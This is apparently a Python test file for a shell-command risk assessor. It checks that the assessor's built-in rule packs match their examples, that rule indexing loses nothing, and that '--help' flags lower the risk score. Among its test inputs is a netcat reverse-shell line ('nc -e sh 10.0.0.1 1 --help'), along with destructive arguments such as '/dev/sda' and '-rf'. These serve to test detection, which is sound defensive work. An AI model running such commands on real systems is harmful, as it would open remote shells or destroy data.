"""The rules that come with the package do what their examples say, and the book finds every one of them."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.approval.risk import Assessment, Command, Context, assess
from services.approval.risk.rules import BUILTIN
from services.approval.risk.rules.examples import check
from services.approval.risk.rules.pack import Pack, Rule
from services.approval.risk.shell.invocation import Invocation


def judge(line: str, book: object) -> Assessment:
    return assess(Command(script=line), Context(rules=book))  # type: ignore[arg-type]


@pytest.mark.parametrize("pack", BUILTIN.packs, ids=lambda pack: pack.name)
def test_examples_hold(pack: Pack) -> None:
    check([pack], judge, BUILTIN)


@pytest.mark.parametrize("pack", BUILTIN.packs, ids=lambda pack: pack.name)
def test_a_pack_has_everyday_commands_and_a_name_of_its_family(pack: Pack) -> None:
    assert len(pack.everyday) >= 10
    assert pack.source == pack.name.removeprefix("builtin/") + ".yaml"


def _rules() -> Iterator[Rule]:
    for pack in BUILTIN.packs:
        yield from pack.rules


def test_a_rule_id_names_one_rule() -> None:
    ids = [rule.id for rule in _rules()]
    assert sorted(ids) == sorted(set(ids))


WORDS = sorted({word for rule in _rules() for word in rule.first or ()})
PROGRAMS = sorted({program for rule in _rules() for program in rule.programs})


@given(
    st.sampled_from(PROGRAMS),
    st.lists(st.sampled_from([*WORDS, "x", "-f", "--force", "/dev/sda", "-rf", "--delete", ""]), max_size=4),
)
def test_the_index_loses_no_rule(program: str, args: list[str]) -> None:
    call = Invocation(program, tuple(args))
    expected = {
        rule.factor
        for rule in _rules()
        if program in rule.programs
        and (rule.holds is None or rule.holds(call))
        and not (call.dry_run or call.asks_help)
    }
    assert {factor.id for factor in BUILTIN.apply(call)} == expected


@given(st.sampled_from(PROGRAMS), st.lists(st.text(max_size=12), max_size=5))
def test_no_argument_makes_a_rule_raise(program: str, args: list[str]) -> None:
    BUILTIN.apply(Invocation(program, tuple(args)))


@pytest.mark.parametrize(
    "line", ["git push --help", "kubectl delete --help", "aws --version", "useradd --help", "terraform destroy --help"]
)
def test_asking_for_help_is_harmless(line: str) -> None:
    assert assess(Command(script=line)).score < 10


@pytest.mark.parametrize("line", ["docker run --privileged alpine ls --help", "nc -e sh 10.0.0.1 1 --help"])
def test_help_among_options_is_no_question(line: str) -> None:
    assert assess(Command(script=line)).score >= 50


def test_versions_name_every_pack() -> None:
    versions = BUILTIN.versions()
    assert versions.keys() == {pack.name for pack in BUILTIN.packs}
    assert all("+sha256." in version for version in versions.values())
